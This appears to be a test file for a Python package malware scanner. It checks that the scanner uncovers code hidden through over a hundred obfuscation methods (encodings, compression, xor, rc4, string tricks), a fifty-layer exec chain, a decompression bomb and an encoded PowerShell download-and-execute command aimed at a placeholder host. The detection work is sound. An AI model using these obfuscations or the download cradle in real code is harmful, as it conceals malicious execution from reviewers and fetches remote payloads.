import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { factsOf } from '../../../../test/builders/python-package.ts';
import { firstOf, plainText } from '../values/value.ts';

/** Ways to hide code: each is a program that leaves `import os;os.system('demo')`, as text or bytes, in `x`. */
const HIDDEN: Readonly<Record<string, string>> = {
  'getdecoder hex':
    "import codecs\nx=codecs.getdecoder('hex')('696d706f7274206f733b6f732e73797374656d282764656d6f27290a')[0]",
  'getdecoder rot13': "import codecs\nx,_=codecs.getdecoder('rot13')(\"vzcbeg bf;bf.flfgrz('qrzb')\\n\")",
  'getencoder rot13': "import codecs\nx=codecs.getencoder('rot-13')(\"vzcbeg bf;bf.flfgrz('qrzb')\\n\")[0]",
  'lookup decode': "import codecs\nx=codecs.lookup('base64').decode(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCg==')[0]",
  escape_decode:
    "import codecs\nx=codecs.escape_decode(b'\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x64\\x65\\x6d\\x6f\\x27\\x29\\x0a')[0]",
  utf_7: "x=b\"imp+AG8-rt +AG8-s;+AG8-s.system('dem+AG8-')\\n\".decode('utf-7')",
  cp037:
    "x=b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\x84\\x85\\x94\\x96}]%'.decode('cp037')",
  cp500:
    "x=b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\x84\\x85\\x94\\x96}]%'.decode('cp500')",
  cp273:
    "x=b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\x84\\x85\\x94\\x96}]%'.decode('cp273')",
  cp1026:
    "x=b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\x84\\x85\\x94\\x96}]%'.decode('cp1026')",
  'punycode real': "x=b\"import os;os.system('demo')\\n-9qc\".decode('punycode')[1:]",
  raw_unicode_escape:
    "x=b'\\\\u0069\\\\u006d\\\\u0070\\\\u006f\\\\u0072\\\\u0074\\\\u0020\\\\u006f\\\\u0073\\\\u003b\\\\u006f\\\\u0073\\\\u002e\\\\u0073\\\\u0079\\\\u0073\\\\u0074\\\\u0065\\\\u006d\\\\u0028\\\\u0027\\\\u0064\\\\u0065\\\\u006d\\\\u006f\\\\u0027\\\\u0029\\\\u000a'.decode('raw_unicode_escape')",
  cp437: "x=b\"import os;os.system('demo')\\n\".decode('cp437')",
  'str(b,enc)':
    "x=str(b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\x84\\x85\\x94\\x96}]%','cp037')",
  incremental: "import codecs\nx=codecs.getincrementaldecoder('utf-8')().decode(b\"import os;os.system('demo')\\n\")",
  'base58 lib': 'import base58\nx=base58.b58decode("25tkZWqgdcuC3SsNkbYn73H4zGFVPbJFutGdEfj")',
  'base91 hand':
    "T=dict((c,i) for i,c in enumerate('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*+,./:;<=>?@[]^_`{|}~\"'))\ndef d(s):\n    v=-1;b=0;n=0;out=bytearray()\n    for c in s:\n        if c not in T: continue\n        t=T[c]\n        if v<0: v=t\n        else:\n            v+=t*91\n            b|=v<<n\n            n+=13 if (v&8191)>88 else 14\n            while True:\n                out.append(b&255)\n                b>>=8\n                n-=8\n                if not n>7: break\n            v=-1\n    if v+1: out.append((b|v<<n)&255)\n    return bytes(out)\nx=d('&lk=r@yCy$4^6meQ2,NKg,lv@G200^>N1cA')",
  'lzma xz':
    "import lzma,base64\nx=lzma.decompress(base64.b64decode(b'/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAbaW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCgAw6mTF9iwYyQABNByTGq2PH7bzfQEAAAAABFla'))",
  'lzma alone':
    "import lzma,base64\nx=lzma.decompress(base64.b64decode(b'XQAAgAD//////////wA0m0pnuFI8c+00ltyb91WNXyNppxTtG80xSEMeGyAD///6MSwA'))",
  'lzma raw':
    "import lzma,base64\nx=lzma.decompress(base64.b64decode(b'AQAbaW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCgA='),lzma.FORMAT_RAW,None,[{'id':lzma.FILTER_LZMA2}])",
  'lzma decompressor':
    "import lzma,base64\nx=lzma.LZMADecompressor().decompress(base64.b64decode(b'/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAbaW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCgAw6mTF9iwYyQABNByTGq2PH7bzfQEAAAAABFla'))",
  bz2: "import bz2,base64\nx=bz2.decompress(base64.b64decode(b'QlpoOTFBWSZTWQgdvq4AAAXZgAAQQOEACAYi3CAgADFDTTAANQDQejSYR0WQrn2yHaIe5pKmB8XckU4UJAIHb6uA'))",
  'bz2 codec':
    "import codecs,base64\nx=codecs.decode(base64.b64decode(b'QlpoOTFBWSZTWQgdvq4AAAXZgAAQQOEACAYi3CAgADFDTTAANQDQejSYR0WQrn2yHaIe5pKmB8XckU4UJAIHb6uA'),'bz2')",
  'zlib codec':
    "import codecs,base64\nx=codecs.decode(base64.b64decode(b'eJzLzC3ILypRyC+2zi/WK64sLknN1VBPSc3NV9fkAgCblgnc'),'zlib')",
  gzip: "import gzip,base64\nx=gzip.decompress(base64.b64decode(b'H4sIAOVhBGsC/8vMLcgvKlHIL7bOL9YrriwuSc3VUE9Jzc1X1+QCAPOD8z0cAAAA'))",
  gzipfile:
    "import gzip,base64,io\nx=gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode(b'H4sIAOVhBGsC/8vMLcgvKlHIL7bOL9YrriwuSc3VUE9Jzc1X1+QCAPOD8z0cAAAA'))).read()",
  'zlib obj':
    "import zlib,base64\nx=zlib.decompressobj().decompress(base64.b64decode(b'eJzLzC3ILypRyC+2zi/WK64sLknN1VBPSc3NV9fkAgCblgnc'))",
  'zlib raw':
    "import zlib,base64\nx=zlib.decompress(base64.b64decode(b'y8wtyC8qUcgvts4v1iuuLC5JzdVQT0nNzVfX5AIA'),-15)",
  'zlib raw kw':
    "import zlib,base64\nx=zlib.decompress(base64.b64decode(b'y8wtyC8qUcgvts4v1iuuLC5JzdVQT0nNzVfX5AIA'),wbits=-15)",
  'zlib gzip wbits':
    "import zlib,base64\nx=zlib.decompress(base64.b64decode(b'H4sIAOVhBGsC/8vMLcgvKlHIL7bOL9YrriwuSc3VUE9Jzc1X1+QCAPOD8z0cAAAA'),16+zlib.MAX_WBITS)",
  b16: "import base64\nx=base64.b16decode(b'696D706F7274206F733B6F732E73797374656D282764656D6F27290A')",
  b32: "import base64\nx=base64.b32decode(b'NFWXA33SOQQG64Z3N5ZS443ZON2GK3JIE5SGK3LPE4UQU===')",
  b32hex: "import base64\nx=base64.b32hexdecode(b'D5MN0RRIEGG6USPRDTPISSRPEDQ6AR984TI6ARBF4SKGK===')",
  b85: "import base64\nx=base64.b85decode(b'X>D+Ca&#bXb31QyE^~QvbY*QQCuC)9Zzm}V')",
  a85: "import base64\nx=base64.a85decode(b'Bl.g-Ec`FBF$\";]/ou;ZFCf;;-Y-e*D^Qt@')",
  urlsafe: "import base64\nx=base64.urlsafe_b64decode(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCg==')",
  'binascii a2b': "import binascii\nx=binascii.a2b_base64(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCg==')",
  unhexlify: "import binascii\nx=binascii.unhexlify('696d706f7274206f733b6f732e73797374656d282764656d6f27290a')",
  fromhex: "x=bytes.fromhex('696d706f7274206f733b6f732e73797374656d282764656d6f27290a')",
  'fromhex spaced':
    "x=bytes.fromhex('69 6d 70 6f 72 74 20 6f 73 3b 6f 73 2e 73 79 73 74 65 6d 28 27 64 65 6d 6f 27 29 0a')",
  'bytearray fromhex': "x=bytearray.fromhex('696d706f7274206f733b6f732e73797374656d282764656d6f27290a')",
  'fromhex inst': "x=b''.fromhex('696d706f7274206f733b6f732e73797374656d282764656d6f27290a')",
  'decode hex py2': "import codecs\nx=codecs.decode('696d706f7274206f733b6f732e73797374656d282764656d6f27290a','hex')",
  'codecs hex_codec':
    "import codecs\nx=codecs.decode(b'696d706f7274206f733b6f732e73797374656d282764656d6f27290a','hex_codec')",
  'codecs rot13': "import codecs\nx=codecs.decode(\"vzcbeg bf;bf.flfgrz('qrzb')\\n\",'rot_13')",
  'codecs encode rot13': "import codecs\nx=codecs.encode(\"vzcbeg bf;bf.flfgrz('qrzb')\\n\",'rot13')",
  'str rot13 maketrans':
    "x=\"vzcbeg bf;bf.flfgrz('qrzb')\\n\".translate(str.maketrans('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz','NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm'))",
  quopri: 'import quopri\nx=quopri.decodestring(b"import os;os.system(\'demo\')\\n")',
  uu: "import binascii\nx=binascii.a2b_uu(b'<:6UP;W)T(&]S.V]S+G-Y<W1E;2@G9&5M;R<I\"@  \\n')",
  'url unquote': "import urllib.parse\nx=urllib.parse.unquote('import%20os%3Bos.system%28%27demo%27%29%0A')",
  'html unescape':
    "import html\nx=html.unescape('&#105;&#109;&#112;&#111;&#114;&#116;&#32;&#111;&#115;&#59;&#111;&#115;&#46;&#115;&#121;&#115;&#116;&#101;&#109;&#40;&#39;&#100;&#101;&#109;&#111;&#39;&#41;&#10;')",
  'json loads': "import json\nx=json.loads('\"import os;os.system(\\'demo\\')\\\\n\"')",
  'json loads dict': "import json\nx=json.loads('{\"a\": \"import os;os.system(\\'demo\\')\\\\n\"}')['a']",
  literal_eval: "import ast\nx=ast.literal_eval('\"import os;os.system(\\'demo\\')\\\\n\"')",
  unicode_escape:
    "x='\\\\x69\\\\x6d\\\\x70\\\\x6f\\\\x72\\\\x74\\\\x20\\\\x6f\\\\x73\\\\x3b\\\\x6f\\\\x73\\\\x2e\\\\x73\\\\x79\\\\x73\\\\x74\\\\x65\\\\x6d\\\\x28\\\\x27\\\\x64\\\\x65\\\\x6d\\\\x6f\\\\x27\\\\x29\\\\x0a'.encode().decode('unicode_escape')",
  'unicode_escape bytes':
    "x=b'\\\\x69\\\\x6d\\\\x70\\\\x6f\\\\x72\\\\x74\\\\x20\\\\x6f\\\\x73\\\\x3b\\\\x6f\\\\x73\\\\x2e\\\\x73\\\\x79\\\\x73\\\\x74\\\\x65\\\\x6d\\\\x28\\\\x27\\\\x64\\\\x65\\\\x6d\\\\x6f\\\\x27\\\\x29\\\\x0a'.decode('unicode_escape')",
  utf16:
    "x=b\"\\xff\\xfei\\x00m\\x00p\\x00o\\x00r\\x00t\\x00 \\x00o\\x00s\\x00;\\x00o\\x00s\\x00.\\x00s\\x00y\\x00s\\x00t\\x00e\\x00m\\x00(\\x00'\\x00d\\x00e\\x00m\\x00o\\x00'\\x00)\\x00\\n\\x00\".decode('utf-16')",
  utf16le:
    "x=b\"i\\x00m\\x00p\\x00o\\x00r\\x00t\\x00 \\x00o\\x00s\\x00;\\x00o\\x00s\\x00.\\x00s\\x00y\\x00s\\x00t\\x00e\\x00m\\x00(\\x00'\\x00d\\x00e\\x00m\\x00o\\x00'\\x00)\\x00\\n\\x00\".decode('utf-16-le')",
  utf32:
    "x=b\"\\xff\\xfe\\x00\\x00i\\x00\\x00\\x00m\\x00\\x00\\x00p\\x00\\x00\\x00o\\x00\\x00\\x00r\\x00\\x00\\x00t\\x00\\x00\\x00 \\x00\\x00\\x00o\\x00\\x00\\x00s\\x00\\x00\\x00;\\x00\\x00\\x00o\\x00\\x00\\x00s\\x00\\x00\\x00.\\x00\\x00\\x00s\\x00\\x00\\x00y\\x00\\x00\\x00s\\x00\\x00\\x00t\\x00\\x00\\x00e\\x00\\x00\\x00m\\x00\\x00\\x00(\\x00\\x00\\x00'\\x00\\x00\\x00d\\x00\\x00\\x00e\\x00\\x00\\x00m\\x00\\x00\\x00o\\x00\\x00\\x00'\\x00\\x00\\x00)\\x00\\x00\\x00\\n\\x00\\x00\\x00\".decode('utf-32')",
  utf7: "x=b\"import os;os.system('demo')\\n\".decode('utf-7')",
  'str bytes utf16':
    "x=str(b\"\\xff\\xfei\\x00m\\x00p\\x00o\\x00r\\x00t\\x00 \\x00o\\x00s\\x00;\\x00o\\x00s\\x00.\\x00s\\x00y\\x00s\\x00t\\x00e\\x00m\\x00(\\x00'\\x00d\\x00e\\x00m\\x00o\\x00'\\x00)\\x00\\n\\x00\",'utf-16')",
  'bytes list':
    'x=bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])',
  'bytearray list':
    'x=bytearray([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10]).decode()',
  'bytes tuple':
    'x=bytes((105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10))',
  'join chr':
    "x=''.join(chr(i) for i in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])",
  'join map chr':
    "x=''.join(map(chr,[105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10]))",
  'join map lambda':
    "x=''.join(map(lambda c:chr(c-3),[108, 112, 115, 114, 117, 119, 35, 114, 118, 62, 114, 118, 49, 118, 124, 118, 119, 104, 112, 43, 42, 103, 104, 112, 114, 42, 44, 13]))",
  'join split ints':
    "x=''.join(chr(int(i)) for i in '105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,100,101,109,111,39,41,10'.split(','))",
  'join chr octal':
    "x=''.join(chr(int(i,8)) for i in '151 155 160 157 162 164 40 157 163 73 157 163 56 163 171 163 164 145 155 50 47 144 145 155 157 47 51 12'.split())",
  'join chr bin':
    "x=''.join(chr(int(i,2)) for i in '1101001 1101101 1110000 1101111 1110010 1110100 100000 1101111 1110011 111011 1101111 1110011 101110 1110011 1111001 1110011 1110100 1100101 1101101 101000 100111 1100100 1100101 1101101 1101111 100111 101001 1010'.split())",
  'binary step':
    "s='01101001011011010111000001101111011100100111010000100000011011110111001100111011011011110111001100101110011100110111100101110011011101000110010101101101001010000010011101100100011001010110110101101111001001110010100100001010'\nx=''.join(chr(int(s[i:i+8],2)) for i in range(0,len(s),8))",
  'hex step':
    "s='696d706f7274206f733b6f732e73797374656d282764656d6f27290a'\nx=''.join(chr(int(s[i:i+2],16)) for i in range(0,len(s),2))",
  'format c':
    "x=''.join('{:c}'.format(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])",
  'percent c':
    "x=''.join('%c'%c for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])",
  'percent c tuple':
    "x='%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c'%(105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10)",
  'fstring c':
    "x=''.join(f'{c:c}' for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])",
  reversed: 'x="\\n)\'omed\'(metsys.so;so tropmi"[::-1]',
  'reversed()': "x=''.join(reversed(\"\\n)'omed'(metsys.so;so tropmi\"))",
  'slice step': 'x="izmzpzozrztz zozsz;zozsz.zszyzsztzezmz(z\'zdzezmzoz\'z)z\\nz"[::2]',
  'slice neg': 'x="\\n)\'omed\'(metsys.so;so tropmi"[-1::-1]',
  'slice obj': 'x="\\n)\'omed\'(metsys.so;so tropmi"[slice(None,None,-1)]',
  to_bytes: "x=(11102811301011151697479154424162113758282513450607524873004657355018).to_bytes(28,'big')",
  'to_bytes little': "x=(1070052708422516530496684502694127465589945507578090337856388099433).to_bytes(28,'little')",
  'to_bytes calc':
    "n=11102811301011151697479154424162113758282513450607524873004657355018\nx=n.to_bytes((n.bit_length()+7)//8,'big')",
  'int.to_bytes': "x=int.to_bytes(11102811301011151697479154424162113758282513450607524873004657355018,28,'big')",
  'hex int unhex':
    "import binascii\nx=binascii.unhexlify('%x'%11102811301011151697479154424162113758282513450607524873004657355018)",
  'hex() [2:]': 'x=bytes.fromhex(hex(11102811301011151697479154424162113758282513450607524873004657355018)[2:])',
  'translate dict': "x=\"imp@rt @s;@s.system('dem@')\\n\".translate({ord('@'):'o'})",
  'translate maketrans dict': "x=\"imp@rt @s;@s.system('dem@')\\n\".translate(str.maketrans({'@':'o'}))",
  'translate bytes': "x=b\"imp@rt @s;@s.system('dem@')\\n\".translate(bytes.maketrans(b'@',b'o'))",
  'replace chain': "x=\"imp@@rt @@s;@@s.syst!!m('d!!m@@')\\n\".replace('@@','o').replace('!!','e')",
  'format kw': "x='{a}{b}'.format(a='import os',b=\";os.system('demo')\\n\")",
  'format idx': "x='{0[0]}{0[1]}'.format(['import os',\";os.system('demo')\\n\"])",
  format_map: "x='{a}{b}'.format_map({'a':'import os','b':\";os.system('demo')\\n\"})",
  Template: "from string import Template\nx=Template('$a$b').substitute(a='import os',b=\";os.system('demo')\\n\")",
  'percent dict': "x='%(a)s%(b)s'%{'a':'import os','b':\";os.system('demo')\\n\"}",
  'join list': "x=''.join(['imp', 'ort', ' os', ';os', '.sy', 'ste', \"m('\", 'dem', \"o')\", '\\n'])",
  'join dict values': "x=''.join({1:'import os',2:\";os.system('demo')\\n\"}.values())",
  'index list':
    "a=['\\n', ' ', \"'\", '(', ')', '.', ';', 'd', 'e', 'i', 'm', 'o', 'p', 'r', 's', 't', 'y']\nx=''.join(a[i] for i in [9, 10, 12, 11, 13, 15, 1, 11, 14, 6, 11, 14, 5, 14, 16, 14, 15, 8, 10, 3, 2, 7, 8, 10, 11, 2, 4, 0])",
  'index str':
    "a=\"\\n '().;deimoprsty\"\nx=''.join(map(a.__getitem__,[9, 10, 12, 11, 13, 15, 1, 11, 14, 6, 11, 14, 5, 14, 16, 14, 15, 8, 10, 3, 2, 7, 8, 10, 11, 2, 4, 0]))",
  'xor bytes': "x=bytes([b^13 for b in b'd`}b\\x7fy-b~6b~#~t~yh`%*ih`b*$\\x07'])",
  'xor key':
    "k=b'key'\nd=b'\\x02\\x08\\t\\x04\\x17\\rK\\n\\nP\\n\\nE\\x16\\x00\\x18\\x11\\x1c\\x06M^\\x0f\\x00\\x14\\x04BPa'\nx=bytes([d[i]^k[i%len(k)] for i in range(len(d))])",
  'xor cycle':
    "from itertools import cycle\nx=bytes(a^b for a,b in zip(b'\\x02\\x08\\t\\x04\\x17\\rK\\n\\nP\\n\\nE\\x16\\x00\\x18\\x11\\x1c\\x06M^\\x0f\\x00\\x14\\x04BPa',cycle(b'key')))",
  'xor func loop':
    "def f(d,k):\n  o=bytearray()\n  for i in range(len(d)):\n    o.append(d[i]^k[i%len(k)])\n  return bytes(o)\nx=f(b'\\x02\\x08\\t\\x04\\x17\\rK\\n\\nP\\n\\nE\\x16\\x00\\x18\\x11\\x1c\\x06M^\\x0f\\x00\\x14\\x04BPa',b'key')",
  'xor b64': "import base64\nx=bytes(c^7 for c in base64.b64decode(b'bmp3aHVzJ2h0PGh0KXR+dHNiai8gY2JqaCAuDQ=='))",
  'xor str':
    "x=''.join(chr(ord(c)^ord('k')) for c in '\\x02\\x06\\x1b\\x04\\x19\\x1fK\\x04\\x18P\\x04\\x18E\\x18\\x12\\x18\\x1f\\x0e\\x06CL\\x0f\\x0e\\x06\\x04LBa')",
  'xor operator': 'import operator\nx=bytes(map(operator.xor,b"`dyf{})fz2fz\'zpz}ld!.mldf. \\x03",[9]*28))',
  'xor bigint':
    "x=(11102811301011151697479154424162113758282513450614788167051966424024^12345678901234567890).to_bytes(28,'big')",
  'add mod': "x=bytes((c-5)%256 for c in b'nrutwy%tx@tx3x~xyjr-,ijrt,.\\x0f')",
  not: "x=bytes(255-c for c in b'\\x96\\x92\\x8f\\x90\\x8d\\x8b\\xdf\\x90\\x8c\\xc4\\x90\\x8c\\xd1\\x8c\\x86\\x8c\\x8b\\x9a\\x92\\xd7\\xd8\\x9b\\x9a\\x92\\x90\\xd8\\xd6\\xf5')",
  rotate:
    "x=bytes(((c>>3)|(c<<5))&255 for c in b'Kk\\x83{\\x93\\xa3\\x01{\\x9b\\xd9{\\x9bq\\x9b\\xcb\\x9b\\xa3+kA9#+k{9IP')",
  memoryview: 'x=bytes(memoryview(b"import os;os.system(\'demo\')\\n"))',
  array:
    "import array\nx=array.array('B',[105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10]).tobytes()",
  BytesIO: 'import io\nx=io.BytesIO(b"import os;os.system(\'demo\')\\n").read()',
  StringIO: 'import io\nx=io.StringIO("import os;os.system(\'demo\')\\n").getvalue()',
  'lambda chain':
    "import base64,zlib\n_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nx=_(b'cnglbCgAkf9VN3cSPBV1NnkLs46KW/iz2+CyRpyLI3CzLzJe')",
  rc4: "def rc4(key,data):\n    S=list(range(256)); j=0; out=[]\n    for i in range(256):\n        j=(j+S[i]+key[i%len(key)])%256\n        S[i],S[j]=S[j],S[i]\n    i=j=0\n    for c in data:\n        i=(i+1)%256\n        j=(j+S[i])%256\n        S[i],S[j]=S[j],S[i]\n        out.append(c^S[(S[i]+S[j])%256])\n    return bytes(out)\nx=rc4(b'secret',b'\\x84[\\xa2s\\xf0\\xd0\\xf6\\xc9A\\xf0\\xd4\\xaf\\xdd\\x95\\x8cD\\xd9R\\x1f\\xca\\xa4\\x97\\xa11\\x1f[]\\xed')",
  'ord sub join list': "x=''\nfor c in 'jnqpsu!pt<pt/tztufn)(efnp(*\\x0b': x+=chr(ord(c)-1)",
  'filter isalpha': "x=''.join(filter(lambda c:c!='@',\"i@m@p@o@r@t@ @o@s@;@o@s@.@s@y@s@t@e@m@(@'@d@e@m@o@'@)@\\n\"))",
  'sum strings': 'x=sum([["import os;os.system(\'demo\')\\n"]],[])[0]',
  'split maxsplit': "x=\"junk|import os;os.system('demo')\\n\".split('|',1)[1]",
  'rsplit partition': "x=\"junk|import os;os.system('demo')\\n\".partition('|')[2]",
  rpartition: "x=\"junk|import os;os.system('demo')\\n\".rpartition('|')[2]",
  expandtabs: 'x="import\\tos;os.system(\'demo\')\\n".expandtabs(1)',
  casefold: 'x="IMPORT OS;OS.SYSTEM(\'DEMO\')\\n".swapcase()',
  reduce:
    "from functools import reduce\nx=reduce(lambda a,b:a+b,['i', 'm', 'p', 'o', 'r', 't', ' ', 'o', 's', ';', 'o', 's', '.', 's', 'y', 's', 't', 'e', 'm', '(', \"'\", 'd', 'e', 'm', 'o', \"'\", ')', '\\n'])",
  'accumulate deque':
    "from collections import deque\nx=''.join(deque(['i', 'm', 'p', 'o', 'r', 't', ' ', 'o', 's', ';', 'o', 's', '.', 's', 'y', 's', 't', 'e', 'm', '(', \"'\", 'd', 'e', 'm', 'o', \"'\", ')', '\\n']))",
  're.sub': "import re\nx=re.sub('@','',\"i@m@p@o@r@t@ @o@s@;@o@s@.@s@y@s@t@e@m@(@'@d@e@m@o@'@)@\\n\")",
  'chr dict':
    "d={i:chr(i) for i in range(128)}\nx=''.join(d[i] for i in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10])",
  __doc__: "def f():\n  '''import os;os.system('demo')'''\nx=f.__doc__",
  'module __doc__': "'''import os;os.system('demo')'''\nx=__doc__",
  'class __doc__': "class A:\n  '''import os;os.system('demo')'''\nx=A.__doc__",
  'getitem bytes': "x=b''.join([b\"import os;os.system('demo')\\n\"[i:i+1] for i in range(28)])",
  'iter next': 'i=iter(["import os;os.system(\'demo\')\\n"])\nx=next(i)',
  'zip star': "x=''.join(''.join(t) for t in zip(*[\"ipr so.ytm'eo)\",\"moto;ssse(dm'\\n\"]))",
  'chunks dict sorted':
    "d={24: \"o')\\n\", 20: \"'dem\", 16: 'tem(', 12: '.sys', 8: 's;os', 4: 'rt o', 0: 'impo'}\nx=''.join(d[k] for k in sorted(d))",
  'base64 py2 decode': "x='aW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCg=='.decode('base64')",
  'codecs base64': "import codecs\nx=codecs.decode(b'aW1wb3J0IG9zO29zLnN5c3RlbSgnZGVtbycpCg==','base64')",
  'bytes.decode unbound': 'x=bytes.decode(b"import os;os.system(\'demo\')\\n")',
  'str.join unbound':
    "x=str.join('',['i', 'm', 'p', 'o', 'r', 't', ' ', 'o', 's', ';', 'o', 's', '.', 's', 'y', 's', 't', 'e', 'm', '(', \"'\", 'd', 'e', 'm', 'o', \"'\", ')', '\\n'])",
  'lambda y comb':
    'x=(lambda f:(lambda y:y(y))(lambda y:f(lambda s:y(y)(s))))(lambda r:lambda s:s if len(s)<2 else r(s[1:])+s[0])("\\n)\'omed\'(metsys.so;so tropmi")',
  'list comp cond':
    "x=''.join([c for i,c in enumerate(\"iqqmqqpqqoqqrqqtqq qqoqqsqq;qqoqqsqq.qqsqqyqqsqqtqqeqqmqq(qq'qqdqqeqqmqqoqq'qq)qq\\nqq\") if i%3==0])",
  'while pop':
    "l=['\\n', ')', \"'\", 'o', 'm', 'e', 'd', \"'\", '(', 'm', 'e', 't', 's', 'y', 's', '.', 's', 'o', ';', 's', 'o', ' ', 't', 'r', 'o', 'p', 'm', 'i']\nx=''\nwhile l: x+=l.pop()",
  'while len':
    "l=[105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 100, 101, 109, 111, 39, 41, 10]\nx=''\ni=0\nwhile i<len(l):\n  x+=chr(l[i]); i+=1",
  'divmod base':
    'n=11102811301011151697479154424162113758282513450607524873004657355018\no=[]\nwhile n:\n  n,r=divmod(n,256)\n  o.append(r)\nx=bytes(o[::-1])',
  'custom alphabet':
    "import base64\na='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'\nc='zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210+/'\nx=base64.b64decode('Zd8DY6q9rt0Al70AoMm4X6iOYhTMateGYBXKxT=='.translate(str.maketrans(c,a)))",
};

async function startedBy(source: string): Promise<string[]> {
  return (await factsOf({ 'demo/__init__.py': source })).flatMap((fact) =>
    fact.kind === 'call' && fact.role === 'process' ? [plainText(firstOf(fact.call.args[0]!)) ?? ''] : [],
  );
}

for (const [why, source] of Object.entries(HIDDEN)) {
  test(`reads code behind ${why}`, async () => assert.deepEqual(await startedBy(`${source}\nexec(x)`), ['demo']));
}

test('reads fifty layers', async () => {
  let source = "import os;os.system('demo')";
  for (let layer = 0; layer < 50; layer++)
    source = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(source).toString('base64')}')))`;
  assert.deepEqual(await startedBy(source), ['demo']);
});

test('says that decoded data were too long', async () => {
  const bomb = deflateSync(Buffer.alloc(6_000_000)).toString('base64');
  const facts = await factsOf({
    'demo/__init__.py': `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${bomb}')))`,
  });
  assert.ok(facts.some((fact) => fact.kind === 'limit' && fact.what === 'size of decoded data'));
});

test('an unknown codec counts as a decoder', async () => {
  const facts = await factsOf({ 'demo/__init__.py': "exec(b'abc'.decode('ours'))" });
  const [run] = facts.filter((fact) => fact.kind === 'call' && fact.role === 'execute');
  assert.ok(run?.kind === 'call' && run.taint !== 0);
});

const WIDE = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid/a.ps1')";
for (const [why, source] of [
  ['a command line', `import os\nos.system('powershell -NoP -enc ${WIDE(SCRIPT)}')`],
  ['a list', `import subprocess\nsubprocess.Popen(['powershell.exe', '-EncodedCommand', '${WIDE(SCRIPT)}'])`],
  ['the shortest switch, after cmd', `import os\nos.popen('cmd /c start /min powershell /e "${WIDE(SCRIPT)}"')`],
] as const) {
  test(`reads an encoded command of PowerShell in ${why}`, async () => {
    const commands = await startedBy(source);
    assert.ok(commands.some((command) => command.includes('DownloadString')));
  });
}

test('reads an encoded command that is only mentioned', async () => {
  const facts = await factsOf({ 'demo/__init__.py': `import os\ndef f(a):\n    a('powershell -e ${WIDE(SCRIPT)}')` });
  assert.ok(facts.some((fact) => fact.kind === 'decoded' && fact.text.includes('DownloadString')));
});
